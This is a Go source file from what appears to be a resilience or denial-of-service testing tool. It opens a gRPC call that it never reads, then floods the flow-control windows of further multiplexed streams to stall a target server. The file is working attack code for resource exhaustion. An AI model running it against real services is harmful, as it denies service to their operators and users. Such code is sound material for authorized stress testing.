package main

import (
	"context"
	"time"
)

const (
	filledTunnels = 2
	untilBlocked  = 500 * time.Millisecond // what is between the two is full by then
)

// unreadWindows starts an RPC that it does not read, so that the server cannot
// write any more. What gRPC wants to write first on a new connection, SETTINGS,
// keeps it from reading then, and so the window of each further stream fills.
func unreadWindows(ctx context.Context, t *target) {
	call, err := bulkCall()
	if err != nil {
		t.breach(err.Error())
		return
	}
	t.keep(ctx, filledTunnels, cutPause, func(ctx context.Context, i int) {
		sizes, err := t.windows(ctx, t.scale(streamsOfATunnel))
		if err != nil {
			t.failed(ctx)
			return
		}
		s, ok := t.open(ctx, i, hostile)
		if !ok {
			return
		}
		defer func() { _ = s.Close() }()
		b := appendMux(nil, muxWindow, flagSYN, 1, 1<<30)
		b = append(appendMux(b, muxData, 0, 1, uint32(len(call))), call...)
		if _, err := s.Write(binaryFrame(b)); err != nil {
			t.dropped(ctx)
			return
		}
		wait(untilBlocked, ctx.Done())
		for n, size := range sizes[1:] {
			if !t.fill(ctx, s, uint32(2*n+3), size) {
				t.dropped(ctx)
				return
			}
		}
		<-ctx.Done()
	})
}

// fill opens a stream and sends all that its window allows.
func (t *target) fill(ctx context.Context, s *socket, id uint32, window int) bool {
	const piece = 64 << 10
	b := appendMux(nil, muxWindow, flagSYN, id, 0)
	body := make([]byte, piece)
	for window > 0 {
		n := min(window, piece)
		b = append(appendMux(b, muxData, 0, id, uint32(n)), body[:n]...)
		if _, err := s.Write(binaryFrame(b)); err != nil || ctx.Err() != nil {
			return false
		}
		t.add("KiB", int64(n>>10))
		b = b[:0]
		window -= n
	}
	t.add("streams filled", 1)
	return true
}
